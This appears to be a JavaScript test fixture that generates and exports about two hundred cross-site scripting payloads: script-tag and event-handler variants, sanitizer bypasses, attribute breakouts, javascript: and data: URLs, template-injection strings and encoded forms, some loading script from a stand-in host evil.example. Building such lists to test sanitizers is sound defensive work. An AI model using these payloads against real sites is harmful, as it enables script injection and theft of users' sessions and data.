const call = 'alert(7)'

const tags = [
  `<script>${call}</script>`, `<ScRiPt>${call}</sCrIpT>`, `<script/x>${call}</script >`, `<script src=//evil.example/x.js></script>`, `<script src="data:text/javascript,${call}"></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `<<script>${call}//<</script>`, `<script\n>${call}</script\n>`, `<script>/*`, `*/${call}</script>`, `</script><script>${call}</script>`, `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</style><script>${call}</script>`, `</noscript><img src=x onerror=${call}>`, `<!--><script>${call}</script>-->`, `--><svg onload=${call}>`, `]]><img src=x onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, `<template><img src=x onerror=${call}></template>`,
]
const elements = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'select autofocus', 'textarea autofocus', 'details open', 'marquee', 'iframe src=about:blank', 'object data=x', 'embed src=x', 'form', 'a href=x', 'div contenteditable autofocus', 'keygen autofocus', 'frameset', 'link rel=stylesheet href=x', 'style']
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover']
const attributes = [`" onfocus=${call} autofocus x="`, `' onfocus=${call} autofocus x='`, `" onmouseover="${call}`, `' onmouseover='${call}`, `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `\`><img src=x onerror=${call}>`, `"/><svg/onload=${call}>`, `" style="position:fixed;inset:0" onclick="${call}`, `x" autofocus onfocus="${call}" y="`]
const addresses = [`javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `\u0001javascript:${call}`, ` javascript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==`, `vbscript:msgbox(7)`, `//evil.example`, `http:\\\\evil.example`, `feed:javascript:${call}`, `view-source:javascript:${call}`]
const programs = [`\${${call}}`, `{{constructor.constructor('${call}')()}}`, `#{${call}}`, `<%= ${call} %>`, `';${call};//`, `";${call};//`, `\\';${call};//`, `</script>';${call}//`, `\u2028${call}//`, `{"__html":"<img src=x onerror=${call}>"}`, `__proto__[innerHTML]=<img src=x onerror=${call}>`, `$&$\`$'`, `{{t('x')}}`, `$t(common:form.save)`, `{{name, uppercase}}`]
const written = [`<img src=x onerror=${call}>`, `<svg onload=${call}>`].flatMap((text) => [text, encodeURIComponent(text), text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), text.replaceAll('<', '\\u003c'), text.replaceAll('<', '＜').replaceAll('>', '＞'), text.split('').join('\u200b'), [...text].reverse().join(''), `\ufeff${text}`, text.replaceAll(' ', '/'), text.replaceAll(' ', '\t'), text.replaceAll(' ', '\n')])

/** Two hundred ways to become a program on somebody else's page. */
export const payloads = [
  ...tags, ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${call}>`)), ...attributes, ...addresses, ...programs, ...written,
].slice(0, 203)
